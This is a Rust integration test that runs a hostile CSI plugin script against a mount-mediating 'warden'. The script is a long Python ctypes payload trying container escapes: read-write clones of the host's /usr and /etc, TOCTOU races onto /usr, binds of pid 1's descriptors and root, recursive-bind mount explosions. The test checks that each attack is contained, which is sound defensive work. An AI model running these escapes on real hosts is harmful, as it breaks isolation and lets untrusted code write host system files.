//! Attacks on the mount warden (commit 19ea09f) by a hostile CSI node plugin the
//! operator granted mounting: its task is a Python script making raw system calls
//! (ctypes), one line per attack (`ESCAPED` where a defence failed). The test reads the
//! host's mount table while the plugin pauses (no mount may appear outside the agent's
//! data dir), checks the host's `/usr` and `/etc` were not written, and undoes whatever
//! the plugin left mounted on the host.

use berth_harness::AgentProcess;

/// The attacks, run by the plugin (see each `A<n>` comment).
const ATTACKS: &str = r##"
import ctypes, os, sys, threading, time, signal, errno as E
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mount.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p]
libc.umount2.argtypes = [ctypes.c_char_p, ctypes.c_int]
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
MS_RDONLY, MS_NOSUID, MS_NODEV, MS_NOEXEC, MS_REMOUNT = 1, 2, 4, 8, 32
MS_BIND, MS_MOVE, MS_REC, MS_PRIVATE, MS_SLAVE, MS_SHARED = 4096, 8192, 16384, 1 << 18, 1 << 19, 1 << 20
D = "/local/csi"
def say(*a):
    print(*a, flush=True)
def cp(v):
    if v is None:
        return None
    if isinstance(v, int):
        return v
    return ctypes.cast(ctypes.c_char_p(v if isinstance(v, bytes) else v.encode()), ctypes.c_void_p).value
_keep = []
def mnt(src, tgt, flags):
    bs = None if src is None else (src if isinstance(src, (bytes, int)) else src.encode())
    bt = tgt if isinstance(tgt, (bytes, int)) else tgt.encode()
    _keep.append((bs, bt))
    s = None if bs is None else (bs if isinstance(bs, int) else ctypes.cast(ctypes.c_char_p(bs), ctypes.c_void_p).value)
    t = bt if isinstance(bt, int) else ctypes.cast(ctypes.c_char_p(bt), ctypes.c_void_p).value
    r = libc.mount(s, t, None, flags, None)
    return 0 if r == 0 else ctypes.get_errno()
def umount(p, f=0):
    r = libc.umount2(p.encode(), f)
    return 0 if r == 0 else ctypes.get_errno()
def en(e):
    return "ok" if e == 0 else E.errorcode.get(e, str(e))
def mountinfo():
    return open("/proc/self/mountinfo").read().splitlines()
def at(path):
    return [l for l in mountinfo() if l.split()[4] == path]
def writable(path):
    try:
        fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o644)
        os.close(fd)
        os.unlink(path)
        return True
    except OSError as e:
        return False
def alive():
    os.makedirs(D + "/alive", exist_ok=True)
    r = mnt("/local/src", D + "/alive", MS_BIND)
    if r == 0:
        umount(D + "/alive")
    return r == 0

os.makedirs("/local/src", exist_ok=True)
open("/local/src/file", "w").write("data")
say("== mountinfo")
for l in mountinfo():
    say("  " + l)
for n in os.listdir("/proc/self/fd"):
    try:
        say("  self fd", n, os.readlink("/proc/self/fd/" + n))
    except OSError as e:
        say("  self fd", n, e)
try:
    for n in os.listdir("/proc/1/fd"):
        try:
            say("  init fd", n, os.readlink("/proc/1/fd/" + n))
        except OSError as e:
            say("  init fd", n, e)
except OSError as e:
    say("  init fds unreadable:", e)
say("A0 warden alive at start:", alive())

# A1: open_tree_attr (Linux 6.15, nr 467): a detached clone of the host's /usr, read-only cleared.
class MountAttr(ctypes.Structure):
    _fields_ = [("attr_set", ctypes.c_uint64), ("attr_clr", ctypes.c_uint64), ("propagation", ctypes.c_uint64), ("userns_fd", ctypes.c_uint64)]
OPEN_TREE_CLONE, OPEN_TREE_CLOEXEC = 1, 0o2000000
for src in ["/usr", "/etc"]:
    attr = MountAttr(0, 0x1 | 0x2 | 0x4, 0, 0)
    fd = libc.syscall(467, -100, src.encode(), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC, ctypes.byref(attr), 32)
    if fd < 0:
        say("A1 open_tree_attr", src, "refused:", en(ctypes.get_errno()))
        continue
    name = "berth-attack-open-tree-attr"
    try:
        w = os.open(name, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
        os.write(w, b"plugin wrote the host's " + src.encode())
        os.close(w)
        seen = os.path.exists(src + "/" + name)
        say("A1 ESCAPED open_tree_attr: wrote", src + "/" + name, "through a detached rw clone; visible in the plugin's read-only", src, "bind:", seen)
        os.unlink(name, dir_fd=fd)
        say("A1 removed", src + "/" + name, "again:", not os.path.exists(src + "/" + name))
    except OSError as e:
        say("A1 open_tree_attr", src, "clone made (fd", fd, ") but write failed:", e)
    os.close(fd)

# A2: the new mount API must answer ENOSYS.
for name, nr, args in [("open_tree", 428, (-100, b"/usr", 1)), ("move_mount", 429, (-1, b"", -1, b"", 0)), ("fsopen", 430, (b"tmpfs", 0)), ("fsmount", 432, (-1, 0, 0)), ("fspick", 433, (-100, b"/usr", 0)), ("mount_setattr", 442, (-100, b"/usr", 0, None, 32)), ("fsconfig", 431, (-1, 0, None, None, 0))]:
    r = libc.syscall(nr, *args)
    say("A2", name, "->", "ok(fd %d)" % r if r >= 0 else en(ctypes.get_errno()))

# A3: a second listener of its own (to answer its own calls with CONTINUE).
class SockFilter(ctypes.Structure):
    _fields_ = [("code", ctypes.c_uint16), ("jt", ctypes.c_uint8), ("jf", ctypes.c_uint8), ("k", ctypes.c_uint32)]
class SockFprog(ctypes.Structure):
    _fields_ = [("len", ctypes.c_uint16), ("filter", ctypes.POINTER(SockFilter))]
prog_insns = (SockFilter * 1)(SockFilter(0x06, 0, 0, 0x7fff0000))
prog = SockFprog(1, prog_insns)
r = libc.syscall(317, 1, 8, ctypes.byref(prog))
say("A3 own seccomp listener:", ("ESCAPED got listener fd %d" % r) if r >= 0 else en(ctypes.get_errno()))

# A4: bad pointers and long paths, then the warden still answers.
os.makedirs(D + "/a", exist_ok=True)
say("A4 unmapped source:", en(mnt(0xdead0000, D + "/a", MS_BIND)))
say("A4 unmapped target:", en(mnt("/local/src", 0xdead0000, MS_BIND)))
say("A4 kernel pointer target:", en(mnt("/local/src", 0xffffffffff600000, MS_BIND)))
page = 4096
base = libc.mmap(None, 2 * page, 3, 0x22, -1, 0)
libc.munmap(base + page, page)
ctypes.memset(base, ord("a"), page)
ctypes.memmove(base, b"/local/csi/", 11)
say("A4 target running into an unmapped page:", en(mnt("/local/src", base, MS_BIND)))
say("A4 target of 5000 bytes:", en(mnt("/local/src", "/local/csi/" + "x" * 5000, MS_BIND)))
say("A4 target of 4095 bytes:", en(mnt("/local/src", "/local/csi/" + "/".join(["y" * 200] * 20)[:4084], MS_BIND)))
say("A4 warden alive after bad pointers:", alive())

# A5: another thread flips the target between a dir of the plugin and /usr while binding.
buf = ctypes.create_string_buffer(64)
os.makedirs(D + "/race", exist_ok=True)
stop = [False]
def flip():
    good, bad = b"/local/csi/race\0", b"/usr\0"
    while not stop[0]:
        ctypes.memmove(buf, good, len(good))
        ctypes.memmove(buf, bad, len(bad))
t = threading.Thread(target=flip)
t.start()
usr_before = len(at("/usr"))
outcomes = {}
for i in range(1500):
    r = mnt("/local/src", ctypes.addressof(buf), MS_BIND)
    outcomes[en(r)] = outcomes.get(en(r), 0) + 1
stop[0] = True
t.join()
usr_after = len(at("/usr"))
n = 0
while umount(D + "/race") == 0:
    n += 1
say("A5 flipped target:", outcomes, "mounts at /usr before/after:", usr_before, usr_after, "binds at race undone:", n, ("ESCAPED" if usr_after != usr_before else "contained"))

# A6: a component of the target swapped between a dir and a link to /usr.
os.makedirs(D + "/sw/real/bin", exist_ok=True)
stop = [False]
def swap():
    while not stop[0]:
        try:
            os.rename(D + "/sw/t", D + "/sw/real")
        except OSError:
            pass
        try:
            os.symlink("/usr", D + "/sw/t")
        except OSError:
            pass
        try:
            os.unlink(D + "/sw/t")
        except OSError:
            pass
        try:
            os.rename(D + "/sw/real", D + "/sw/t")
        except OSError:
            pass
t = threading.Thread(target=swap)
t.start()
outcomes = {}
for i in range(1500):
    r = mnt("/local/src", D + "/sw/t/bin", MS_BIND)
    outcomes[en(r)] = outcomes.get(en(r), 0) + 1
stop[0] = True
t.join()
bad = [l for l in mountinfo() if l.split()[4].startswith("/usr/")]
say("A6 swapped link:", outcomes, ("ESCAPED " + str(bad)) if bad else "nothing below /usr", "mount points made:", sorted(set(l.split()[4] for l in mountinfo() if "/sw/" in l.split()[4])))
for l in reversed(mountinfo()):
    if "/sw/" in l.split()[4]:
        umount(l.split()[4], 2)

# A7: callers killed mid-call, threads exiting mid-call.
os.makedirs(D + "/k", exist_ok=True)
pids = []
for i in range(100):
    pid = os.fork()
    if pid == 0:
        while True:
            mnt("/local/src", D + "/k", MS_BIND)
            umount(D + "/k")
    pids.append(pid)
time.sleep(0.3)
for pid in pids:
    os.kill(pid, signal.SIGKILL)
for pid in pids:
    os.waitpid(pid, 0)
while umount(D + "/k") == 0:
    pass
say("A7 warden alive after 100 callers killed mid-call:", alive())

# A8: a flood of refused calls from 8 threads (each refusal writes a line to stderr).
def flood():
    for i in range(300):
        mnt("/local/src", "/usr", MS_BIND)
started = time.time()
ts = [threading.Thread(target=flood) for _ in range(8)]
[x.start() for x in ts]
[x.join() for x in ts]
say("A8 2400 refused calls took %.1fs; warden alive:" % (time.time() - started), alive())

# A9: namespace files bound below its dirs (they would be pinned on the host).
for ns in ["mnt", "net", "pid", "user", "cgroup"]:
    for who in ["self", str(os.getpid()), "1"]:
        target = D + "/ns-" + ns + "-" + who
        open(target, "w").close()
        r = mnt("/proc/" + who + "/ns/" + ns, target, MS_BIND)
        say("A9 bind of /proc/" + who + "/ns/" + ns + ":", en(r), "NOTE (low): an nsfs file bound below its dir, so on the host" if r == 0 else "")
# A10: descriptors of the init (pid 1), reached through the warden's privileges.
for n in range(0, 40):
    for kind in ["dir", "file"]:
        target = D + "/fd-%d-%s" % (n, kind)
        if kind == "dir":
            os.makedirs(target, exist_ok=True)
        else:
            open(target, "w").close()
        r = mnt("/proc/1/fd/%d" % n, target, MS_BIND)
        if r == 0:
            say("A10 bound /proc/1/fd/%d at" % n, target, "->", [l for l in at(target)])
        elif r not in (E.ENOENT, E.ENOTDIR, E.EISDIR):
            say("A10 /proc/1/fd/%d (%s):" % (n, kind), en(r))

# A11: a recursive bind of its root (writable) carries read-only /usr and /etc: remount them rw.
os.makedirs(D + "/r", exist_ok=True)
say("A11 bind -R / :", en(mnt("/", D + "/r", MS_BIND | MS_REC)))
for sub in ["usr", "etc"]:
    r = mnt(None, D + "/r/" + sub, MS_BIND | MS_REMOUNT)
    w = writable(D + "/r/" + sub + "/berth-attack-rec")
    say("A11 remount rw", D + "/r/" + sub, ":", en(r), "ESCAPED writable" if w else "still read-only")
r = mnt(None, D + "/r/usr", MS_BIND | MS_REMOUNT | MS_RDONLY)
say("A11 remount ro of the read-only sub mount:", en(r))
say("A11 nosuid on the recursive copies:", all("nosuid" in l.split()[5] and "nodev" in l.split()[5] for l in mountinfo() if l.split()[4].startswith(D + "/r")))

# A12: a writable bind of its own with /usr stacked over it, remounted rw.
os.makedirs(D + "/w", exist_ok=True)
say("A12 bind writable:", en(mnt("/local/src", D + "/w", MS_BIND)), "stack /usr:", en(mnt("/usr", D + "/w", MS_BIND)))
r = mnt(None, D + "/w", MS_BIND | MS_REMOUNT)
say("A12 remount rw of the stack:", en(r), "ESCAPED writable" if writable(D + "/w/berth-attack-stack") else "still read-only")
umount(D + "/w")
# under the stacked writable mount: unmount the top then the warden's id of the bottom
say("A12 after popping /usr, bottom writable:", writable(D + "/w/x"))
umount(D + "/w")

# A13: /usr made shared, bound below its dir, then a bind made through it.
say("A13 make /usr shared:", en(mnt(None, "/usr", MS_SHARED)))
os.makedirs(D + "/u", exist_ok=True)
say("A13 bind /usr:", en(mnt("/usr", D + "/u", MS_BIND)))
say("A13 bind over /usr/share through it:", en(mnt("/local/src", D + "/u/share", MS_BIND)))
say("A13 /usr/share covered in its own /usr:", bool(at("/usr/share")))
say("A13 remount rw through the copy:", en(mnt(None, D + "/u", MS_BIND | MS_REMOUNT)))

# A14: mount explosion: each recursive bind of / copies every earlier one (and reaches the host).
os.makedirs(D + "/x", exist_ok=True)
# Counted from what the namespace had before: other tests' mounts on the host show in it
# too (563 with a busy suite, where the binds themselves were refused).
before = len(mountinfo())
counts = []
# Two binds only: a third made 22575 mounts in its namespace and 29789 on the host
# (the host's fs.mount-max is 100000 per namespace), which would disturb a shared machine.
for i in range(2):
    os.makedirs(D + "/x/%d" % i, exist_ok=True)
    r = mnt("/", D + "/x/%d" % i, MS_BIND | MS_REC)
    counts.append((en(r), len(mountinfo())))
say("A14 mounts in its namespace after each bind -R /:", before, counts, "ESCAPED mount explosion (x7 per call)" if counts[-1][1] - before > 400 else "bounded")

# A15: chroot, then a path that means something else to the warden.
say("A16 the dir itself:", en(mnt("/local/src", D, MS_BIND)), en(mnt("/local/src", D + "/", MS_BIND)), en(mnt("/local/src", D + "/.", MS_BIND)), en(mnt("/local/src", D + "/a/..", MS_BIND)))
say("A16 relative target:", en(mnt("/local/src", "local/csi/a", MS_BIND)))

# A17: /dev and /proc bound below its dir: nodev forced?
os.makedirs(D + "/dev", exist_ok=True)
say("A17 bind /dev:", en(mnt("/dev", D + "/dev", MS_BIND)), at(D + "/dev"))
try:
    open(D + "/dev/null", "w").close()
    say("A17 ESCAPED device opened through the bind")
except OSError as e:
    say("A17 device through the bind:", e)
os.makedirs(D + "/p", exist_ok=True)
say("A17 bind /proc:", en(mnt("/proc", D + "/p", MS_BIND)))
say("A17 remount rw /proc copy:", en(mnt(None, D + "/p", MS_BIND | MS_REMOUNT)))

# A18: pid 1's root and cwd through the warden (magic links of a process the plugin may not trace).
for link in ["/proc/1/root", "/proc/1/cwd"]:
    target = D + "/l" + link.replace("/", "-")
    os.makedirs(target, exist_ok=True)
    say("A18 bind", link, ":", en(mnt(link, target, MS_BIND)))

say("A19 host check: plugin pauses so the test reads the host's mount table")
time.sleep(6)

# A20: its dir unmounted (umount2 is its own), then a bind: the warden's descriptor is detached.
say("A20 umount -l its dir:", en(umount(D, 2)), "bind after:", en(mnt("/local/src", D + "/a", MS_BIND)))
os.makedirs("/local/csi-gone", exist_ok=True)
say("A20 plugin-side dir after the detach (its namespace's own dir):", os.listdir(D))
say("A99 end")
"##;

fn attack_job() -> String {
    let script = format!(
        "grep -E '^CapEff:' /proc/self/status\ncat > /tmp/attack.py <<'PYEOF'\n{ATTACKS}\nPYEOF\n/usr/bin/python3 /tmp/attack.py 2>&1\necho done\nsleep 600\n"
    );
    format!(
        "job \"csi-hostpath\" {{\n  group \"g\" {{\n    task \"t\" {{\n      driver = \"exec\"\n      config {{\n        command = \"/bin/sh\"\n        args = [\"-c\", {}]\n      }}\n      csi_plugin {{\n        id             = \"hostpath\"\n        type           = \"node\"\n        health_timeout = \"5m\"\n      }}\n    }}\n  }}\n}}\n",
        serde_json::to_string(&script).unwrap()
    )
}

/// Mount points of this (the host's) mount namespace, with their per-mount options.
fn host_mounts_with_options() -> Vec<(String, String)> {
    std::fs::read_to_string("/proc/self/mountinfo")
        .unwrap()
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(' ').collect();
            Some((f.get(4)?.to_string(), f.get(5)?.to_string()))
        })
        .collect()
}

/// Mount points of this (the host's) mount namespace.
fn host_mount_points() -> Vec<String> {
    std::fs::read_to_string("/proc/self/mountinfo")
        .unwrap()
        .lines()
        .filter_map(|l| l.split(' ').nth(4).map(str::to_string))
        .collect()
}

/// Lazily unmounts everything mounted below `dir` on the host, deepest first.
fn unmount_below(dir: &std::path::Path) -> usize {
    let dir = dir.to_string_lossy().into_owned();
    let mut undone = 0;
    for _ in 0..64 {
        let mut below: Vec<String> = host_mount_points()
            .into_iter()
            .filter(|m| m.starts_with(&dir))
            .collect();
        if below.is_empty() {
            break;
        }
        below.sort_by_key(|m| std::cmp::Reverse(m.len()));
        for m in below {
            let c = std::ffi::CString::new(m).unwrap();
            // SAFETY: umount2 on a C string.
            if unsafe { libc::umount2(c.as_ptr(), libc::MNT_DETACH) } == 0 {
                undone += 1;
            }
        }
    }
    undone
}

#[tokio::test(flavor = "multi_thread")]
async fn warden_attacks_by_a_hostile_granted_plugin() {
    let before = host_mount_points();
    let mut agent = AgentProcess::production(|_, _| {
        "csi {\n  privileged_plugin \"hostpath\" {\n    jobs = [\"csi-hostpath\"]\n  }\n}\n"
            .to_string()
    });
    agent.start().await;
    let dir = agent.path().canonicalize().unwrap();
    let submitted = agent
        .submit("csi-hostpath.hcl", &attack_job())
        .await
        .unwrap_or_else(|e| panic!("{e:?}"));
    let id = submitted.alloc_ids[0].clone();
    let started = std::time::Instant::now();
    let mut during = None;
    let mut suid_or_dev: Vec<String> = Vec::new();
    let mut writable_system: Vec<String> = Vec::new();
    let (out, stderr) = loop {
        let status = agent.alloc(&id).await;
        let out = std::fs::read_to_string(status.alloc_dir.join("alloc/logs/t.stdout.0"))
            .unwrap_or_default();
        if during.is_none() && out.contains("A19 host check") {
            during = Some(host_mount_points());
            let dir = dir.to_string_lossy().into_owned();
            let mounts = host_mounts_with_options();
            let below: Vec<&(String, String)> =
                mounts.iter().filter(|(m, _)| m.starts_with(&dir)).collect();
            suid_or_dev = below
                .iter()
                .filter(|(m, o)| {
                    !(m.ends_with("/data/csi") || (o.contains("nosuid") && o.contains("nodev")))
                })
                .map(|(m, o)| format!("{m} {o}"))
                .collect();
            writable_system = below
                .iter()
                .filter(|(m, o)| {
                    (m.ends_with("/usr") || m.ends_with("/etc")) && o.starts_with("rw")
                })
                .map(|(m, o)| format!("{m} {o}"))
                .collect();
        }
        if out.contains("done\n") {
            let stderr = std::fs::read_to_string(status.alloc_dir.join("alloc/logs/t.stderr.0"))
                .unwrap_or_default();
            break (out, stderr);
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(240),
            "the attacks never finished: {out}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    let during = during.unwrap_or_default();
    let outside: Vec<&String> = during
        .iter()
        // Other tests run beside this one and mount in their own temp dirs.
        .filter(|m| {
            !m.starts_with(&*dir.to_string_lossy())
                && !before.contains(m)
                && !std::path::Path::new(m).starts_with(std::env::temp_dir())
        })
        .collect();
    let below_data = during
        .iter()
        .filter(|m| m.starts_with(&*dir.to_string_lossy()))
        .count();
    let _ = agent
        .client()
        .delete::<serde_json::Value>("/v1/berth/job/csi-hostpath")
        .await;
    agent.finished(&id).await;
    let left_after_stop: Vec<String> = host_mount_points()
        .into_iter()
        .filter(|m| m.starts_with(&*dir.to_string_lossy()))
        .collect();
    let mut wrote = Vec::new();
    for path in [
        "/usr/berth-attack-open-tree-attr",
        "/etc/berth-attack-open-tree-attr",
    ] {
        if std::path::Path::new(path).exists() {
            wrote.push(path);
            let _ = std::fs::remove_file(path);
        }
    }
    drop(agent);
    let undone = unmount_below(&dir);
    let refusals = stderr
        .lines()
        .filter(|l| l.contains("mount refused"))
        .count();
    println!("{out}");
    println!(
        "== warden refusals in stderr: {refusals}; other stderr lines:\n{}",
        stderr
            .lines()
            .filter(|l| !l.contains("mount refused"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    println!("== host: new mounts outside the agent dir while paused: {outside:?}");
    println!("== host: mounts below the agent dir while paused: {below_data}");
    println!(
        "== host: mounts left below the agent dir after the job stopped: {} (undone by the test: {undone})",
        left_after_stop.len()
    );
    println!("== host: mounts below the agent dir without nosuid,nodev: {suid_or_dev:?}");
    println!("== host: rw mounts of a /usr or /etc below the agent dir: {writable_system:?}");
    println!("== host: files written into /usr or /etc (removed): {wrote:?}");
    assert!(
        outside.is_empty(),
        "mounts outside the agent dir: {outside:?}"
    );
    assert!(suid_or_dev.is_empty(), "{suid_or_dev:?}");
    assert!(writable_system.is_empty(), "{writable_system:?}");
    assert!(wrote.is_empty(), "the plugin wrote the host's {wrote:?}");
    assert!(
        out.contains("A99 end"),
        "the attacks did not run to the end"
    );
    assert!(!out.contains("ESCAPED"), "a defence failed:\n{out}");
}
